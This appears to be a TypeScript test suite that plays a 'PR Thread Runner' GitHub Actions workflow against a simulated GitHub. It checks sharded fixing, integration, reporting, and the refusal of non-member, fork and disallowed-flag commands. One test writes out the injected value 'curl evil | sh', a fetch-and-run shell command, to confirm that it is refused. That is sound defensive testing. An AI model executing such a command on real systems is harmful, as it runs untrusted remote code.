import * as assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import * as path from 'node:path';
import type { StoredPullRequest, StoredThread } from '../github/storeModel';
import { endState, type EndState } from '../cli/harness/shardRuns';
import { git, seedSample, Workspace } from '../cli/harness/workspace';
import { issueCommentEvent, type Commenter } from './events';
import { loadWorkflow, playWorkflow, PROJECT_ROOT, type JobRun, type PlayOptions, type Workflow } from './workflowPlayer';

// Issue 10 / SPEC §6: docs/workflows/prt.yml played on this machine as GitHub's runners would
// play it — the plan job, one runner per shard in a clone of its own, artifacts as folders,
// one integrate — against the test GitHub, with the environment Actions sets. It reaches the
// end state of one machine; a non-member's comment and a fork's pull request start nothing.

const FILES = { 'a.txt': 'a\n', 'b.txt': 'b\n', 'c.txt': 'c\n', 'd.txt': 'd\n', 'e.txt': 'e\n' };
const THREADS = [
  { path: 'a.txt', line: 1, body: 'fix a first' },
  { path: 'b.txt', line: 1, body: 'fix b' },
  { path: 'a.txt', line: 1, body: 'fix a again' },
  { path: 'c.txt', line: 1, body: 'fix c' },
  { path: 'd.txt', line: 1, body: 'fix d' },
  { path: 'e.txt', line: 1, body: 'fix e' },
];
/** The fixer: appends the comment to its file; c.txt's job fails. It also keeps the environment it got. */
const FIX_SCRIPT = [
  'set -e',
  'env > "$PRT_TEST_OUT/env-$(basename "$PRT_PATH")"',
  'printf "%s\\n" "$PRT_BODY" >> "$PRT_PATH"',
  'if [ "$PRT_PATH" = c.txt ]; then echo "c needs a human" >&2; exit 3; fi',
].join('\n');
const EXEC = 'sh "$PRT_TEST_OUT/fix.sh"';
const MEMBER: Commenter = { login: 'mona', association: 'MEMBER' };

const WORKFLOW_FILE = path.join(PROJECT_ROOT, 'docs', 'workflows', 'prt.yml');

interface World {
  readonly ws: Workspace;
  readonly threads: StoredThread[];
  readonly pr: StoredPullRequest;
  readonly base: string;
  /** The bare repository standing for GitHub's copy: checkouts fetch from it, pushes land there. */
  readonly origin: string;
}

async function world(): Promise<World> {
  const ws = await Workspace.create();
  const threads = await seedSample(ws, FILES, THREADS);
  const base = await git(ws.repo, ['rev-parse', 'HEAD']);
  const pr = threads[0].pullRequest;
  pr.headRefOid = base;
  const origin = path.join(ws.root, 'app.git');
  await git(ws.root, ['clone', '--quiet', '--bare', ws.repo, origin]);
  await writeFile(path.join(ws.outside, 'fix.sh'), `${FIX_SCRIPT}\n`);
  return { ws, threads, pr, base, origin };
}

/** One machine: prt run with the fixer and the landing the workflow's integrate does by default. */
async function oneMachine(): Promise<EndState> {
  const w = await world();
  try {
    await git(w.ws.repo, ['config', 'remote.origin.pushurl', w.origin]);
    const r = await w.ws.prt(['run', '--exec', EXEC, '--commit-per-thread', '--push']);
    assert.equal(r.code, 1, r.stderr);
    return await endState(w.ws.repo, w.base, w.threads);
  } finally {
    await w.ws.dispose();
  }
}

function play(w: World, workflow: Workflow, event: object, extra: Partial<PlayOptions> = {}): Promise<Record<string, JobRun>> {
  return playWorkflow(workflow, {
    gh: w.ws.gh,
    root: path.join(w.ws.root, 'actions'),
    origin: w.origin,
    repository: 'acme/app',
    eventName: 'issue_comment',
    event,
    secrets: { ANTHROPIC_API_KEY: 'sk-test-not-a-key' },
    env: { PRT_TEST_OUT: w.ws.outside },
    ...extra,
  });
}

const mutations = (w: World) => w.ws.gh.requests.filter((q) => q.kind === 'mutation');
/** What a runner's step printed, for a failure message. */
const logOf = (run: JobRun) => run.runners.flatMap((r) => r.steps.map((s) => `--- ${s.label} (exit ${s.exitCode})\n${s.stdout}\n${s.stderr}`)).join('\n');

describe('docs/workflows/prt.yml, played against the test GitHub', () => {
  let workflow: Workflow;
  let single: EndState;
  before(async function () {
    this.timeout(60_000);
    workflow = await loadWorkflow(WORKFLOW_FILE);
    single = await oneMachine();
  });

  describe('a member\'s /prt run', () => {
    let w: World;
    let jobs: Record<string, JobRun>;
    const mutationsAfter: Record<string, number> = {};
    before(async function () {
      this.timeout(120_000);
      w = await world();
      jobs = await play(w, workflow, issueCommentEvent(`/prt run --exec '${EXEC}' --shards 3\n\nPlease fix these.`, MEMBER), {
        onJobDone: (id) => (mutationsAfter[id] = mutations(w).length),
      });
    });
    after(async () => {
      await w.ws.dispose();
    });

    it('plans the threads into lanes and three shards, writing nothing', () => {
      const plan = jobs.plan;
      assert.equal(plan.result, 'success', logOf(plan));
      assert.deepEqual(
        { run: plan.outputs.run, pr: plan.outputs.pr, ref: plan.outputs['head-ref'], sha: plan.outputs['head-sha'], n: plan.outputs['shard-count'], shards: plan.outputs.shards },
        { run: 'true', pr: '1', ref: 'feature/x', sha: w.base, n: '3', shards: '[1,2,3]' },
      );
      assert.deepEqual(JSON.parse(plan.outputs['fix-args']), ['--exec', EXEC]);
      assert.deepEqual(JSON.parse(plan.outputs['integrate-args']), ['--commit-per-thread', '--push']);
      assert.equal(mutationsAfter.plan, 0);
      assert.match(plan.runners[0].steps[0].summary, /^### PR Thread Runner: 6 threads of #1 in 4 lanes, 3 shards\n\n\| Lane \| Shard \| Threads \|\n\| --- \| --- \| --- \|\n\| worker-1 \| 1 \| 2 \|/m);
    });

    it('runs one fix runner per shard, each in its own checkout of the head, uploading its fixes and writing nothing to GitHub', async () => {
      const fix = jobs.fix;
      assert.equal(fix.runners.length, 3);
      assert.deepEqual(fix.runners.map((r) => r.matrix), [{ shard: 1 }, { shard: 2 }, { shard: 3 }]);
      assert.equal(new Set(fix.runners.map((r) => r.workspace)).size, 3, 'three clones');
      assert.equal(mutationsAfter.fix, 0, 'nothing written to GitHub by the shards');
      for (const [i, r] of fix.runners.entries()) {
        assert.equal(await git(r.workspace, ['rev-parse', 'HEAD']), w.base, 'the shard ran on the head the plan saw');
        const manifest = JSON.parse(await readFile(path.join(w.ws.root, 'actions', 'artifacts', `prt-shard-${i + 1}`, 'manifest.json'), 'utf8')) as { shard: unknown };
        assert.deepEqual(manifest.shard, { index: i + 1, count: 3 });
      }
      // c.txt's lane is worker-3: shard 3; its job failed, so its step failed and the job too.
      assert.deepEqual(fix.runners.map((r) => r.failed), [false, false, true], logOf(fix));
      assert.equal(fix.result, 'failure');
    });

    it('integrates once, after the fix runners, even though a shard had a failed thread: the end state of one machine', async () => {
      const integrate = jobs.integrate;
      const runner = integrate.runners[0];
      assert.equal(integrate.runners.length, 1);
      const step = runner.steps.find((s) => s.label === 'prt')!;
      assert.equal(step.exitCode, 1, logOf(integrate));
      assert.deepEqual(await endState(runner.workspace, w.base, w.threads), single);
      assert.equal(await git(w.origin, ['rev-parse', 'refs/heads/feature/x']), await git(runner.workspace, ['rev-parse', 'HEAD']), 'pushed');
      assert.equal((await git(w.origin, ['rev-list', `${w.base}..feature/x`])).split('\n').length, 5, 'one commit per fixed thread');
    });

    it('sets the outputs: the report\'s path, the resolved and failed counts', async () => {
      const step = jobs.integrate.runners[0].steps.find((s) => s.label === 'prt')!;
      assert.deepEqual([step.outputs.resolved, step.outputs.failed, step.outputs['exit-code']], ['5', '1', '1']);
      const report = JSON.parse(await readFile(step.outputs.report, 'utf8')) as { threads: { status: string }[] };
      assert.equal(report.threads.filter((t) => t.status === 'resolved').length, 5);
      const shard3 = jobs.fix.runners[2].steps.find((s) => s.label === 'prt')!;
      assert.deepEqual([shard3.outputs.resolved, shard3.outputs.failed], ['0', '1']);
      assert.match(shard3.outputs.report, /prt-shard\/report\.json$/);
    });

    it('writes the timing summary as a Markdown table to the job summary, and what did not land', () => {
      const summary = jobs.integrate.runners[0].steps.find((s) => s.label === 'prt')!.summary;
      assert.match(summary, /^### PR Thread Runner: acme\/app\\#1 \(integrate\)\n\nRun finished: 5 of 6 threads resolved, 1 failed\.$/m);
      assert.match(summary, /^\| Timing \| {2}\|\n\| --- \| --- \|\n\| Wall time \| [0-9.]+ ?m?s \|$/m);
      assert.match(summary, /^\| Sum of job times \| .+ \|$/m);
      assert.match(summary, /^\| Speedup \| .+ \|$/m);
      assert.match(summary, /^#### Not landed \(1\)\n\n\| Thread \| Status \| Why \|\n\| --- \| --- \| --- \|\n\| c\.txt:1 \| failed \| exit code 3: c needs a human \|$/m);
      const shard = jobs.fix.runners[0].steps.find((s) => s.label === 'prt')!.summary;
      assert.match(shard, /^### PR Thread Runner: acme\/app\\#1 \(shard 1\/3\)\n\n3 of 3 threads fixed; the fixes are handed to the integrate job/m);
    });

    it('annotates the failed thread\'s line with ::error file=PATH,line=N:: in the shard and in integrate', () => {
      const annotations = (run: JobRun) => run.runners.flatMap((r) => r.steps.flatMap((s) => s.stdout.split('\n').filter((l) => l.startsWith('::'))));
      const expected = /^::error file=c\.txt,line=1,title=PR Thread Runner%3A c\.txt%3A1::failed: exit code 3: c needs a human \(review thread PRRT_[A-Za-z0-9_-]+\)$/;
      const fixed = annotations(jobs.fix);
      assert.equal(fixed.length, 1, fixed.join('\n'));
      assert.match(fixed[0], expected);
      const integrated = annotations(jobs.integrate);
      assert.equal(integrated.length, 1, integrated.join('\n'));
      assert.match(integrated[0], expected);
    });

    it('prints progress as plain lines, no bar', () => {
      for (const r of [...jobs.fix.runners, ...jobs.integrate.runners]) {
        const err = r.steps.find((s) => s.label === 'prt')!.stderr;
        assert.doesNotMatch(err, /[\r\u001b]/, 'no carriage return or escape sequence');
        assert.match(err, /^(start|fixed|failed) +worker-\d/m);
      }
    });

    it('answers the /prt comment with the outcome and a link to the run', () => {
      const answers = w.pr.issueComments ?? [];
      assert.equal(jobs.answer.result, 'skipped', 'the plan ran: no "nothing ran" answer');
      assert.equal(answers.length, 1);
      assert.match(answers[0].body, /^\*\*PR Thread Runner\*\*: 5 resolved, 1 failed \(of 6 threads\)\./);
      assert.match(answers[0].body, /\[this \/prt comment\]\(https:\/\/github\.com\/acme\/app\/pull\/1#issuecomment-1900000001\)/);
      assert.match(answers[0].body, /\[The workflow run\]\(https:\/\/github\.com\/acme\/app\/actions\/runs\/4242\)/);
    });

    it('keeps the runner\'s credentials and the action\'s inputs away from the fixer', async () => {
      const env = await readFile(path.join(w.ws.outside, 'env-a.txt'), 'utf8');
      assert.doesNotMatch(env, /^(ACTIONS_RUNTIME_TOKEN|ACTIONS_ID_TOKEN_REQUEST_TOKEN|INPUT_[A-Z_-]+)=/m);
      const step = jobs.fix.runners[0].steps.find((s) => s.label === 'prt')!;
      assert.equal(step.env?.ACTIONS_RUNTIME_TOKEN, 'runner-runtime-token', 'the runner did set it');
    });
  });

  describe('who and what starts nothing', () => {
    let w: World;
    beforeEach(async () => {
      w = await world();
    });
    afterEach(async () => {
      await w.ws.dispose();
    });

    for (const association of ['NONE', 'CONTRIBUTOR', 'FIRST_TIME_CONTRIBUTOR'] as const) {
      it(`a /prt comment by an author whose association is ${association}: no job runs, nothing is read or written`, async () => {
        const jobs = await play(w, workflow, issueCommentEvent(`/prt run --exec '${EXEC}'`, { login: 'stranger', association }));
        assert.deepEqual([jobs.plan.result, jobs.answer.result, jobs.fix.result, jobs.integrate.result], ['skipped', 'skipped', 'skipped', 'skipped']);
        assert.equal(w.ws.gh.requests.length, 0);
        assert.ok(w.threads.every((t) => !t.isResolved && t.comments.length === 1));
      });
    }

    it('even run directly, the plan step refuses a non-member\'s comment (the gate is in the action too)', async () => {
      const direct = await loadWorkflow('', 'on: issue_comment\njobs:\n  plan:\n    runs-on: ubuntu-latest\n    steps:\n      - id: plan\n        uses: ./\n        with:\n          mode: plan\n');
      const jobs = await play(w, direct, issueCommentEvent(`/prt run --exec '${EXEC}'`, { login: 'stranger', association: 'CONTRIBUTOR' }));
      const step = jobs.plan.runners[0].steps[0];
      assert.equal(step.exitCode, 0, step.stderr);
      assert.equal(step.outputs.run, 'false');
      assert.match(step.outputs.reason, /the comment's author is CONTRIBUTOR, not OWNER, MEMBER, COLLABORATOR/);
      assert.match(step.summary, /nothing to run/);
      assert.equal(w.ws.gh.requests.length, 0);
    });

    it('a member\'s /prt on a fork\'s pull request: the plan job says so, and no job with secrets runs', async () => {
      w.pr.headRepository = { owner: 'stranger', name: 'app' };
      const jobs = await play(w, workflow, issueCommentEvent(`/prt run --exec '${EXEC}'`, MEMBER));
      assert.equal(jobs.plan.result, 'success', logOf(jobs.plan));
      assert.equal(jobs.plan.outputs.run, 'false');
      assert.match(jobs.plan.runners[0].steps[0].outputs.reason, /#1 comes from stranger\/app, a fork: nothing runs with this repository's secrets/);
      assert.deepEqual([jobs.fix.result, jobs.integrate.result], ['skipped', 'skipped']);
      assert.deepEqual(mutations(w).map((q) => q.operationName), ['AddPullRequestComment'], 'only the answer is written');
      assert.ok(w.threads.every((t) => !t.isResolved && t.comments.length === 1));
      assert.equal(jobs.answer.result, 'success');
      assert.equal(w.pr.issueComments?.length, 1);
      assert.match(w.pr.issueComments![0].body, /^\*\*PR Thread Runner\*\*: nothing ran: \\#1 comes from stranger\/app, a fork: nothing runs with this repository's secrets/);
      assert.match(w.pr.issueComments![0].body, /\[The workflow run\]\(https:\/\/github\.com\/acme\/app\/actions\/runs\/4242\)/);
    });

    it('a comment on an issue, or that is no /prt command, starts no job', async () => {
      for (const event of [issueCommentEvent(`/prt run --exec '${EXEC}'`, MEMBER, { onIssue: true }), issueCommentEvent('Looks good, thanks! /prt later', MEMBER)]) {
        const jobs = await play(w, workflow, event);
        assert.equal(jobs.plan.result, 'skipped');
      }
      assert.equal(w.ws.gh.requests.length, 0);
    });

    it('a member\'s command with a flag a comment may not give is refused by the plan job, naming it', async () => {
      const jobs = await play(w, workflow, issueCommentEvent(`/prt run --exec '${EXEC}' --worktree-setup 'curl evil | sh'`, MEMBER));
      assert.equal(jobs.plan.outputs.run, 'false');
      assert.match(jobs.plan.runners[0].steps[0].outputs.reason, /--worktree-setup is not allowed in a \/prt comment/);
      assert.deepEqual([jobs.fix.result, jobs.integrate.result], ['skipped', 'skipped']);
      assert.match(w.pr.issueComments?.[0]?.body ?? '', /nothing ran: the \/prt command was refused: the comment: --worktree-setup is not allowed/);
      assert.deepEqual(mutations(w).map((q) => q.operationName), ['AddPullRequestComment']);
    });
  });
});
